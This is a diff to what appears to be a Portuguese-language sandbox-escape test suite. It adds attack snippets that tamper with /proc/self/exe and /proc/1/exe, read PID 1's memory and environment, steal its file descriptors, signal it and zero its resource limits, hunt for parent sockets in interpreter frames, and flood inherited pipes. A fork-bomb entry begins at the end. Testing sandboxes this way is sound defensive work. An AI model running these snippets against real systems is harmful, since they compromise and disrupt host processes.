@@ -691,6 +691,74 @@ for chamada in (250, 321, 298, 425, 272, 430, 162, 306):
     if os.uname().machine == "x86_64" and libc.syscall(chamada, 0, 0, 0, 0, 0) >= 0:
         print("CONECTOU", chamada)
 """),
+    Ataque("o-programa-que-roda", "muda o programa de que a caixa partiu, fora das montagens dela", ERRADA + """
+import os
+for caminho in ("/proc/self/exe", "/proc/1/exe", "/proc/self/task/self/exe"):
+    for tentar in (lambda: os.chmod(caminho, 0), lambda: os.open(caminho, os.O_WRONLY), lambda: os.truncate(caminho, 0),
+                   lambda: os.utime(caminho, (0, 0)), lambda: os.setxattr(caminho, "user.x", b"x")):
+        try:
+            tentar()
+            print("CONECTOU", caminho)
+        except OSError as e:
+            print(e)
+"""),
+    Ataque("o-primeiro-da-caixa", "toma os descritores e a memória do primeiro processo", ERRADA + """
+import ctypes, os, resource, signal
+for nome in ("mem", "environ", "maps", "fd/0", "fd/1", "fd/2", "root/proc/1/mem", "task/1/mem"):
+    for modo in (os.O_RDONLY, os.O_RDWR):
+        try:
+            lido = os.read(os.open(f"/proc/1/{nome}", modo | os.O_NONBLOCK), 100)
+            print("CONECTOU" if b"CANARIO" in lido or nome.endswith("mem") else "leu", nome, lido)
+        except OSError as e:
+            print(nome, e)
+libc = ctypes.CDLL(None, use_errno=True)
+primeiro = os.pidfd_open(1)
+for n in range(64):
+    if libc.syscall(438, primeiro, n, 0) >= 0:  # pidfd_getfd
+        print("CONECTOU ao descritor", n)
+for sinal in set(signal.valid_signals()) - {signal.SIGKILL}:
+    try:
+        os.kill(1, sinal)
+    except OSError:
+        pass
+try:
+    resource.prlimit(1, resource.RLIMIT_NOFILE, (0, 0))
+    resource.prlimit(1, resource.RLIMIT_NPROC, (0, 0))
+except OSError as e:
+    print(e)
+""", ENTROPIA_CERTA, merece={"entropia": 1}),
+    Ataque("restos-da-mae", "procura nos quadros, objetos e descritores o que sobrou de quem fez o kernel", ERRADA + """
+import gc, os, socket, sys, threading
+quadros = [q for q in sys._current_frames().values()]
+while quadros:
+    q = quadros.pop()
+    print(q.f_code.co_filename, {n: repr(v)[:2000] for n, v in q.f_locals.items() if n not in ("lido", "vistos")})
+    quadros += [q.f_back] if q.f_back else []
+for objeto in gc.get_objects():
+    if isinstance(objeto, socket.socket) and objeto.fileno() >= 0 and objeto.family == socket.AF_UNIX:
+        print("soquete", objeto)
+for n in range(3, 512):
+    try:
+        s = socket.socket(fileno=os.dup(n))
+    except OSError:
+        continue
+    if s.type == socket.SOCK_SEQPACKET:
+        print("CONEC" + "TOU à mãe", n)  # em duas partes: este texto também está nos quadros
+        s.send(b"x")
+    s.detach()
+"""),
+    Ataque("cano-das-queixas", "enche todos os canos que herdou e depois fecha a saída de erros", """
+import os, stat
+for n in range(512):
+    try:
+        if stat.S_ISFIFO(os.fstat(n).st_mode):
+            os.set_blocking(n, False)
+            while True:
+                os.write(n, b"x" * 65536)
+    except OSError:
+        pass
+os.close(2)
+""" + ERRADA, ENTROPIA_CERTA, merece={"entropia": 1}),
     # ------------------------------------------------------------ gastar tudo
     Ataque("bomba-de-processos", "bifurca sem parar", """
 import os
